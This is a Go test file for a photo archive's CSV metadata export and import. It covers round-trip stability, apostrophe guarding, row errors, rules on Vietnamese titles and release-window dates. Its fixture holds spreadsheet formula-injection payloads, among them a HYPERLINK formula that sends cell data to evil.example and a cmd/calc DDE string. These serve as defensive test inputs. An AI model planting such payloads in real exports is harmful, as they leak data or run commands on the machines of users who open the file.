package curation

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/haiduong/promo-archive/archive"
)

// csvArchive holds records with the awkward values a spreadsheet must keep:
// quotes, commas, line breaks, Vietnamese, several languages.
func csvArchive(t *testing.T) *archive.Archive {
	t.Helper()
	a, _, _ := editArchive(t)
	r := testRecord(idOf(3))
	ts := time.Date(2011, 1, 13, 14, 33, 39, 0, time.FixedZone("", 7*3600))
	r.CapturedAt, r.SourcePath = &ts, "su-kien/2024/IMG_0001.JPG"
	r.Title = map[string]string{"vi": `Lễ hội "Côn Sơn", Kiếp Bạc`, "ko": "콘선 축제", "x-default": "kept, not exported"}
	r.Description = map[string]string{"en": "Line one\nline two", "ja": "祭り"}
	r.Keywords, r.Categories = []string{"lễ hội", "Côn Sơn"}, []string{"van-hoa-le-hoi", "du-lich"}
	r.Place = &archive.Place{Code: "290", Name: "Thành phố Chí Linh"}
	r.Creator, r.Rights, r.Licence, r.Agency = "Nguyễn Thị Ánh", "© 2024", "cc-by-4.0", "Sở VHTTDL"
	r.Status, r.Visibility = archive.Published, archive.Public
	pub, exp := ts.AddDate(15, 0, 0), time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC) // one in the archive's zone, one in UTC
	r.PublishAt, r.RightsExpireAt = &pub, &exp
	if _, err := a.Store().Put(r); err != nil {
		t.Fatal(err)
	}
	return a
}

// formulaRecord's values start with what a spreadsheet runs as a formula,
// with the apostrophe that guards them, or are the clearValue text.
func formulaRecord() *archive.Record {
	r := testRecord(idOf(4))
	r.Title = map[string]string{"vi": `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`, "en": "+cmd|' /C calc'!A0", "zh": "'quoted' title"}
	r.Description = map[string]string{"vi": "@SUM(1+1)*cmd|' /C calc'!A0", "en": "-2+3"}
	r.Keywords = []string{"-minus", "=eq", "'apostrophe"}
	r.Creator, r.Credit, r.Rights, r.Agency = "''two apostrophes", "-", "=1+1", "@agency"
	r.Status, r.Visibility = archive.Review, archive.Internal
	return r
}

func exportCSV(t *testing.T, a *archive.Archive) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := ExportCSV(a.Store(), &b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestCSVRoundTripIsStable(t *testing.T) {
	a := csvArchive(t)
	if _, err := a.Store().Put(formulaRecord()); err != nil {
		t.Fatal(err)
	}
	first := exportCSV(t, a)
	if !bytes.HasPrefix(first, []byte("\xef\xbb\xbfid,file,title_vi,")) || !bytes.Contains(first, []byte("\r\n")) ||
		bytes.Count(first, []byte("\r\n")) != 6 { // header + 4 records, one holding a line break
		t.Fatalf("export:\n%q", first)
	}
	if !bytes.Contains(first, []byte(",2026-01-13T14:33:39+07:00,,2030-01-01T00:00:00Z\r\n")) {
		t.Errorf("export lacks the release window:\n%q", first)
	}
	// No cell starts with what a spreadsheet runs; the guard is there.
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(first, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var guarded []string
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				guarded = append(guarded, cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")`, "'+cmd|' /C calc'!A0", "''quoted' title",
		"'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'-minus; =eq; 'apostrophe", "'''two apostrophes", "'-", "'=1+1", "'@agency"} {
		if !slices.Contains(guarded, want) {
			t.Errorf("no cell %q among the guarded %q", want, guarded)
		}
	}
	seq0, _ := a.Store().LastSeq()
	for _, dry := range []bool{true, false} {
		t.Run(fmt.Sprintf("dry=%v", dry), func(t *testing.T) {
			rep, err := New(a).ImportMetadata(context.Background(), "export.csv", bytes.NewReader(first), ImportOptions{DryRun: dry, Who: "tester"})
			if err != nil {
				t.Fatal(err)
			}
			if rep.Changed != 0 || rep.Failed != 0 || rep.Unchanged != 4 {
				t.Errorf("dry=%v: unedited import changed something: %+v", dry, rep)
			}
		})
	}
	if seq, _ := a.Store().LastSeq(); seq != seq0 {
		t.Errorf("change sequence moved %d → %d", seq0, seq)
	}
	if second := exportCSV(t, a); !bytes.Equal(first, second) {
		t.Errorf("second export differs:\n%q\n%q", first, second)
	}
	if got, _ := a.Store().Get(idOf(4)); !reflect.DeepEqual(got.Title, formulaRecord().Title) || got.Credit != "-" || got.Creator != "''two apostrophes" {
		t.Errorf("formula record after the round trip: %+v", got)
	}
}

// TestImportGuardedCells: the apostrophe guard is removed on import; a bare
// "-" clears, a guarded "'-" is the text "-".
func TestImportGuardedCells(t *testing.T) {
	id := idOf(1)
	tests := []struct {
		name, credit, want string
	}{
		{"guarded formula", "'=1+1", "=1+1"},
		{"guarded apostrophe", "''quoted", "'quoted"},
		{"guarded dash is text", "'-", "-"},
		{"bare dash clears", "-", ""},
		{"unguarded text", "Sở VHTTDL", "Sở VHTTDL"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, _, _ := editArchive(t)
			if _, _, err := New(a).Edit(context.Background(), id, Edit{Credit: ptr("Old credit")}, apiActor); err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			w := csv.NewWriter(&b)
			w.WriteAll([][]string{{"id", "credit"}, {id, tt.credit}})
			rep, err := New(a).ImportMetadata(context.Background(), "edits.csv", &b, ImportOptions{Who: "tester"})
			if err != nil || rep.Failed != 0 {
				t.Fatalf("%+v %v", rep, err)
			}
			if r, _ := a.Store().Get(id); r.Credit != tt.want {
				t.Errorf("credit %q, want %q", r.Credit, tt.want)
			}
		})
	}
}

func TestImportMetadata(t *testing.T) {
	const (
		header = "id,file,title_en,keywords,place,credit,status\n"
		good   = "%s,ignored.jpg,Hai Duong,a;b,294,-,\n"
		bad    = "%s,,Should not apply,,999,Nope,\n"
	)
	id1, id2 := idOf(1), idOf(2)
	in := header +
		strings.Replace(good, "%s", id1[:10], 1) +
		strings.Replace(bad, "%s", id2, 1) +
		"ffffff,,x,,,,\n" +
		id1 + ",,,,,,published\n" +
		",,,,,,\n"
	tests := []struct {
		name    string
		dry     bool
		changed int
		failed  int
	}{
		{"dry run", true, 1, 3},
		{"apply", false, 1, 3},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, _, _ := editArchive(t)
			if _, _, err := New(a).Edit(context.Background(), id1, Edit{Credit: ptr("Old credit")}, apiActor); err != nil {
				t.Fatal(err)
			}
			seq0, _ := a.Store().LastSeq()
			audit0, _ := a.Store().LastAuditSeq()
			before2, _ := a.Store().Get(id2)
			rep, err := New(a).ImportMetadata(context.Background(), "edits.csv", strings.NewReader(in), ImportOptions{DryRun: tt.dry, Who: "tester"})
			if err != nil {
				t.Fatal(err)
			}
			if rep.Changed != tt.changed || rep.Failed != tt.failed {
				t.Fatalf("report %+v", rep)
			}
			// The good row: four changes; the others name row and column.
			var fields []string
			for _, e := range rep.Rows[0].Changes {
				fields = append(fields, e.Field+"="+string(e.New))
				if e.Via != archive.ViaCSV || e.Who != "tester" {
					t.Errorf("entry %+v", e)
				}
			}
			if got := strings.Join(fields, " "); got != `title.en="Hai Duong" keywords=["a","b"] place="294" credit=null` {
				t.Errorf("row 2 changes: %s", got)
			}
			for i, want := range map[int]string{1: "edits.csv row 3, column place", 2: "row 4, column id", 3: "row 5, column id"} {
				t.Run(fmt.Sprint("row result ", i), func(t *testing.T) {
					var re *RowError
					if r := rep.Rows[i]; !errors.As(r.Err, &re) || !strings.Contains(r.Error, want) {
						t.Errorf("row %d: %v, want %q", r.Row, r.Err, want)
					}
				})
			}
			seq, _ := a.Store().LastSeq()
			audit, _ := a.Store().LastAuditSeq()
			rec1, _ := a.Store().Get(id1)
			if tt.dry {
				if seq != seq0 || audit != audit0 || rec1.Credit != "Old credit" {
					t.Errorf("dry run wrote: seq %d→%d audit %d→%d credit %q", seq0, seq, audit0, audit, rec1.Credit)
				}
			} else {
				if seq != seq0+1 || audit != audit0+4 || rec1.Credit != "" || rec1.Place.Code != "294" || rec1.Provenance["credit"] != "" {
					t.Errorf("apply: seq %d→%d audit %d→%d record %+v", seq0, seq, audit0, audit, rec1)
				}
			}
			if after2, _ := a.Store().Get(id2); after2.Title["en"] != before2.Title["en"] || after2.Credit != before2.Credit {
				t.Errorf("the bad row was half applied: %+v", after2)
			}
		})
	}
}

func TestImportMetadataHeader(t *testing.T) {
	a, _, _ := editArchive(t)
	for in, want := range map[string]string{
		"file,title_vi\nx,y\n":     `no "id" column`,
		"id,classification\nx,y\n": `unknown columns "classification"`,
		"id,title_fr\nx,y\n":       `unknown columns "title_fr"`,
	} {
		t.Run(want, func(t *testing.T) {
			if _, err := New(a).ImportMetadata(context.Background(), "x.csv", strings.NewReader(in), ImportOptions{Who: "t"}); !errors.Is(err, ErrMetadataCSV) || !strings.Contains(err.Error(), want) {
				t.Errorf("%q: %v, want %q", in, err, want)
			}
		})
	}
}

func TestStatsLanguageCoverage(t *testing.T) {
	a := csvArchive(t)
	if _, _, err := New(a).Edit(context.Background(), idOf(3), Edit{LangStatus: map[string]string{"vi": "reviewed", "ko": "reviewed"}}, apiActor); err != nil {
		t.Fatal(err)
	}
	st, err := a.Store().Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.TitleLanguages["vi"] != 2 || st.DescriptionLanguages["en"] != 1 || st.DescriptionLanguages["ja"] != 1 ||
		st.ReviewedLanguages["vi"] != 1 || st.ReviewedLanguages["ko"] != 1 {
		t.Errorf("stats %+v", st)
	}
}

// TestImportPublishNeedsVietnamese: a row that publishes a record without a
// Vietnamese title, or takes the title off a published record, is refused
// naming title_vi; with the title in the same row it goes through.
func TestImportPublishNeedsVietnamese(t *testing.T) {
	id2 := idOf(2) // under review, English title only
	tests := []struct {
		name, csv string
		failed    int
	}{
		{"publish without title_vi", "id,status\n" + id2 + ",published\n", 1},
		{"publish with title_vi", "id,title_vi,status\n" + id2 + ",Chợ nổi,published\n", 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, _, _ := editArchive(t)
			rep, err := New(a).ImportMetadata(context.Background(), "edits.csv", strings.NewReader(tt.csv), ImportOptions{Who: "tester"})
			if err != nil {
				t.Fatal(err)
			}
			rec, _ := a.Store().Get(id2)
			if rep.Failed != tt.failed || (rec.Status == archive.Published) != (tt.failed == 0) {
				t.Fatalf("report %+v, status %s", rep, rec.Status)
			}
			if tt.failed > 0 && (!errors.Is(rep.Rows[0].Err, ErrMetadataCSV) || !strings.Contains(rep.Rows[0].Error, "column title_vi")) {
				t.Errorf("row error %v, want one naming column title_vi", rep.Rows[0].Err)
			}
		})
	}
}

// TestImportReleaseWindow: the release-window columns are read in the
// archive's time zone, audited, and cleared with "-".
func TestImportReleaseWindow(t *testing.T) {
	a := csvArchive(t)
	id := idOf(3)
	steps := []struct {
		name, row   string
		publish     string // the record's publish_at after the row, RFC 3339 or ""
		unpublish   string
		fields      string // audit fields written
		failedInCol string
	}{
		{"dates in the archive's zone", id + ",2027-01-01,2027-06-30 17:00,", "2027-01-01T00:00:00+07:00", "2027-06-30T17:00:00+07:00", "publish_at unpublish_at", ""},
		{"same instant in UTC is no change", id + ",2026-12-31T17:00:00Z,,", "2027-01-01T00:00:00+07:00", "2027-06-30T17:00:00+07:00", "", ""},
		{"window ending before it starts", id + ",,2026-06-01,", "2027-01-01T00:00:00+07:00", "2027-06-30T17:00:00+07:00", "", "unpublish_at"},
		{"not a date", id + ",,,soon", "2027-01-01T00:00:00+07:00", "2027-06-30T17:00:00+07:00", "", "rights_expire_at"},
		{"cleared", id + ",-,-,", "", "", "publish_at unpublish_at", ""},
	}
	for _, st := range steps {
		t.Run(st.name, func(t *testing.T) {
			rep, err := New(a).ImportMetadata(t.Context(), "w.csv", strings.NewReader("id,publish_at,unpublish_at,rights_expire_at\n"+st.row+"\n"), ImportOptions{Who: "tester"})
			if err != nil {
				t.Fatal(err)
			}
			row := rep.Rows[0]
			if st.failedInCol != "" {
				if row.Err == nil || !strings.Contains(row.Error, "column "+st.failedInCol) {
					t.Errorf("row error %v, want one naming column %s", row.Err, st.failedInCol)
				}
			} else if row.Err != nil {
				t.Fatal(row.Err)
			}
			var fields []string
			for _, e := range row.Changes {
				fields = append(fields, e.Field)
			}
			rec, _ := a.Store().Get(id)
			if got := strings.Join(fields, " "); got != st.fields || csvTime(rec.PublishAt) != st.publish || csvTime(rec.UnpublishAt) != st.unpublish {
				t.Errorf("fields %q, publish_at %q, unpublish_at %q; want %q, %q, %q", got, csvTime(rec.PublishAt), csvTime(rec.UnpublishAt), st.fields, st.publish, st.unpublish)
			}
		})
	}
}
